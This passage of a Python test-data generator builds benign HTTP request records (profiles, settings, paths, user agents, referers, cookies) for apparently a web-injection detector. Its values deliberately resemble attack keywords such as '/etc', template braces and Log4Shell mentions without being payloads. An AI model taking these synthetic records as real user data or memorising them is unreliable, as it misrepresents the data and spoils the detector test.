    ("bio", "Ops person. /etc is my second home."),
    ("bio", "Security engineer; I read CVEs for fun (Log4Shell was a long week)"),
    ("bio", "Runtime performance, profiling and GC tuning"),
    ("bio", "Maintainer of our internal include/require linter"),
    ("bio", "Perl hacker since 1998, now mostly Python"),
    ("bio", "Building data pipelines with Java and Kafka"),
    ("bio", "Frontend: Vue, Angular, React; I like {{ mustaches }}"),
    ("title", "Senior PHP Engineer"),
    ("title", "Java Platform Lead"),
    ("title", "Node.js Developer"),
    ("title", "Systems Administrator"),
    ("title", "Executive Assistant"),
    ("title", "Head of Process Improvement"),
    ("title", "Class Teacher (Year 7)"),
    ("title", "Template Designer"),
    ("department", "R&D"),
    ("department", "Sales & Marketing"),
    ("department", "IT / Infrastructure"),
    ("department", "Data (EMEA)"),
    ("name", "Siobhán O'Neil"),
    ("name", "José Álvarez-Núñez"),
    ("name", "Zoë d'Arcy"),
    ("name", "李小龙"),
    ("name", "Mary-Jane Watson"),
    ("name", "Dr. Ahmed Al-Farsi"),
    ("nickname", "php_pete"),
    ("nickname", "java.jane"),
    ("nickname", "node-ninja"),
    ("nickname", "root_cause"),
    ("nickname", "the.constructor"),
    ("location", "Berlin, DE"),
    ("location", "São Paulo"),
    ("location", "127 Main St., Springfield"),
    ("location", "Remote (UTC+2)"),
    ("website", "https://www.php.net/manual/en/function.system.php"),
    ("website", "https://docs.oracle.com/javase/8/docs/api/java/lang/Runtime.html"),
    ("website", "https://nodejs.org/api/child_process.html"),
    ("website", "https://jinja.palletsprojects.com/en/3.1.x/templates/"),
    ("website", "https://twig.symfony.com/doc/3.x/"),
    ("website", "https://logging.apache.org/log4j/2.x/manual/lookups.html"),
    ("website", "https://github.com/acme/api/blob/main/src/index.php"),
    ("website", "https://example.com/files/report.pdf"),
    ("website", "https://cdn.example.org/js/app.js?v=1.2.3"),
    ("website", "http://example.com/"),
    ("website", "https://en.wikipedia.org/wiki/Server-side_request_forgery"),
    ("website", "https://www.example.co.uk/products?id=127&ref=home"),
    ("website", "https://blog.example.com/2024/01/10/java-17-records"),
    ("website", "https://developer.mozilla.org/en-US/docs/Web/JavaScript/Inheritance_and_the_prototype_chain"),
    ("website", "https://ruby-doc.org/core/Kernel.html"),
    ("website", "https://perldoc.perl.org/functions/open"),
    ("website", "https://handlebarsjs.com/guide/"),
    ("website", "https://freemarker.apache.org/docs/"),
    ("website", "https://spring.io/blog/2022/03/31/spring-framework-rce-early-announcement"),
    ("avatar_url", "https://avatars.example.com/u/42.png?s=200"),
    ("avatar_url", "https://www.gravatar.com/avatar/205e460b479e2e5b48aec07710c08d50"),
    ("avatar_url", "https://cdn.example.org/img/avatar-default.svg"),
    ("avatar_url", "https://images.example.net/profile/ann.jpg"),
]
SETTINGS_VALUES = [
    ("display_name", "Ann Berg"), ("display_name", "Zoë O'Neil"), ("display_name", "J.R. \"Bob\" Dobbs"),
    ("display_name", "María José"), ("display_name", "php_pete"), ("display_name", "Node Ninja"),
    ("status_text", "On call this week"), ("status_text", "In meetings until 3pm"),
    ("status_text", "Out of office; back Monday"), ("status_text", "Working on the PHP 8.3 upgrade"),
    ("status_text", "Fixing the Java runtime leak"), ("status_text", "Deploying via the include pipeline"),
    ("status_text", "Lunch 🍜"), ("status_text", "Reviewing templates: {{ first_name }} placeholders"),
    ("status_text", "Reading /etc/nginx configs all day"), ("status_text", "50% on project X, 50% on Y"),
    ("signature", "Best regards,\nAnn"), ("signature", "-- \nSent from the office"),
    ("signature", "Cheers, Bo | Platform team | https://example.com"),
    ("signature", "Dr. A. Al-Farsi (he/him)"), ("signature", "Kind regards & thanks!"),
    ("signature", "Ruby/Perl/PHP polyglot"), ("signature", "P.S. system maintenance Sunday 02:00 UTC"),
    ("location", "Berlin"), ("location", "New York, NY"), ("location", "Zürich"), ("location", "Remote"),
    ("location", "Building 7, Room 127"), ("location", "C:\\ drive of the office, ha"),
    ("location", "/home, mostly"),
]
USERNAMES = ["alice", "bob.smith", "o'neil", "jean-luc", "zoe_d", "li.wei", "kowalski42", "d.angelo",
             "php_pete", "java.jane", "node-ninja", "root_cause", "the.constructor", "process-owner",
             "system.admin", "exec.assistant", "template-team", "data.eng", "perl-monk", "ruby_rose"]
SLUGS = ["42", "1001", "42/avatar", "42/settings", "me", "search", "teams/platform", "teams/php-guild",
         "docs/getting-started", "reports/q3-2024", "files/report.pdf", "exports/users.csv",
         "templates/welcome-email", "invoices/INV-2024-0042", "projects/java-migration", "tags/node.js",
         "tags/c++", "tags/c#", "orgs/acme inc", "search/o'neil", "users/ann@example.org", "users/zoë",
         "events/2024-06-01", "v2/users/42", "ping", "health", "metrics/summary", "config/public",
         "uploads/avatar.png", "include-list"]
EXTRA_UAS = [
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.6478.122 "
    "Mobile Safari/537.36",
    "Mozilla/5.0 (iPad; CPU OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14.5; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 "
    "Safari/537.36 OPR/111.0.0.0",
    "Mozilla/5.0 (Linux; Android 13; SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) SamsungBrowser/25.0 "
    "Chrome/121.0.0.0 Mobile Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Vivaldi/6.8",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36 Edg/126.0.0.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "CriOS/126.0.6478.54 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Mobile/15E148 Slack_SSB/4.38.125",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Slack/4.38.125 "
    "Chrome/124.0.6367.243 Electron/30.1.0 Safari/537.36 AtomShell/30.1.0 Sonic Slack_SSB/4.38.125",
    "AcmeApp/5.2.1 (iPhone; iOS 17.5; Scale/3.00)",
    "AcmeApp/5.2.0 (Android 14; Pixel 7) okhttp/4.12.0",
    "python-requests/2.32.3",
    "curl/8.8.0",
    "PostmanRuntime/7.39.0",
    "axios/1.7.2",
    "Go-http-client/2.0",
    "Java/17.0.11",
    "node-fetch/1.0 (+https://github.com/bitinn/node-fetch)",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 "
    "Safari/537.36",
    "Mozilla/5.0 (Windows NT 6.1; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
]
REFERERS = [
    "https://app.example.com/users?q=php+developer&page=2",
    "https://app.example.com/admin/users/search?q=o%27neil",
    "https://app.example.com/settings/profile#avatar",
    "https://app.example.com/docs/templates/{{first_name}}",
    "https://app.example.com/reports/q3?from=2024-07-01&to=2024-09-30",
    "https://app.example.com/teams/java-guild",
    "https://app.example.com/search?q=node.js+process",
    "https://app.example.com/files/etc-archive-2023.zip",
    "https://www.google.com/",
    "https://www.google.com/search?q=acme+app+login",
    "https://duckduckgo.com/",
    "https://www.bing.com/search?q=php+runtime+error",
    "https://github.com/acme/api/pull/1234",
    "https://github.com/acme/api/blob/main/templates/email.html.twig",
    "https://stackoverflow.com/questions/2093/php-include-vs-require",
    "https://app.slack.com/client/T061EG9R6/C0123456789",
    "https://mail.google.com/",
    "https://outlook.office.com/mail/inbox",
    "https://t.co/AbCdEf123",
    "https://www.linkedin.com/feed/",
    "https://news.ycombinator.com/item?id=40000000",
    "https://confluence.example.com/display/ENG/Template+engines",
    "https://jira.example.com/browse/SEC-1234",
    "https://app.example.com/users/42/edit",
    "https://app.example.com/me/settings?tab=notifications",
    "https://app.example.com/",
    "https://app.example.com/admin/",
    "https://app.example.com/invoices?status=paid&sort=-date",
    "https://docs.example.com/api/v2/users?page=2",
    "https://app.example.com/oauth/consent?client_id=abc&scope=users:read",
]
COOKIE_VALUES = [
    "theme=dark", "lang=de-DE", "tz=Europe%2FBerlin", "recent=php%20developer", "last_search=o%27neil",
    "prefs=%7B%22compact%22%3Atrue%7D", "sidebar=collapsed", "prefs=compact", "recent=java%2Cnode%2Cruby",
    "lang=pt-BR", "last_search=include", "last_search=%7B%7Bname%7D%7D", "theme=system", "recent=etc",
    "prefs=grid", "last_search=process", "tz=America%2FNew_York", "recent=runtime", "theme=high-contrast",
    "last_search=template", "ab_test=variant_b", "_ga=GA1.2.1234567890.1719000000", "seen_tour=1",
    "last_search=C%3A%5CUsers", "recent=data%3Aexport", "prefs=per_page%3A50", "lang=ja-JP",
    "last_search=%24%7Bamount%7D", "recent=%2Fetc%2Fnginx", "last_search=constructor",
]


def benign() -> Iterator[dict[str, Any]]:
    g = Gen(676767)
    n = 0

    def rec(kind: str, placement: str, r: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**r, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement}

    for i, text in enumerate(CHAT):
        yield rec("slack", "json", g.slack(text, 1001 + i, signed_placeholder=True))
        if i % 3 == 2:
            yield rec("patch", "patch-json", g.patch_json({"bio": text}))
        else:
            yield rec("bio", "json", g.api_json({"bio": text}))
    for i, term in enumerate(SEARCHES):
        yield rec("search", "query", g.query(term))
        if i % 2 == 0:
            yield rec("adminsearch", "form", g.form(term))
        else:
            yield rec("adminsearch", "form", g.form(term.title()))
    for field, value in PROFILES:
        yield rec("profile", "json", g.api_json({field: value}))
        if field in ("bio", "title", "location", "nickname"):
            yield rec("patch", "patch-json", g.patch_json({field: value}))
    for field, value in SETTINGS_VALUES:
        yield rec("settings", "settings-form", g.settings_form(value, field=field))
    for text in CHAT[::4]:
        yield rec("settings", "settings-form", g.settings_form(text, field="status_text"))
    for u in USERNAMES:
        yield rec("path", "path", g.path(u))
        yield rec("path", "path", g.path(u + "@example.org"))
    for s in SLUGS:
        yield rec("path", "path", {**g.path("x"), "uri": "/api/" + urllib.parse.quote(s, safe=PATH_SAFE + "/")})
    for _ in range(20):
        yield rec("path", "path", g.path(f"{g.hexs(8)}-{g.hexs(4)}-4{g.hexs(3)}-a{g.hexs(3)}-{g.hexs(12)}"))
    for ua in BROWSER_UAS + EXTRA_UAS:
        yield rec("ua", "header", g.header(ua, "ua"))
        yield rec("ua", "header", g.header(ua, "ua"))
    for ref in REFERERS:
        yield rec("referer", "header", g.header(ref, "referer"))
    for cv in COOKIE_VALUES:
        r = g.query("alice")
        r["headers"]["Cookie"] += "; " + cv
        yield rec("cookie", "header", r)


if __name__ == "__main__":
    print_records(attacks(), benign())
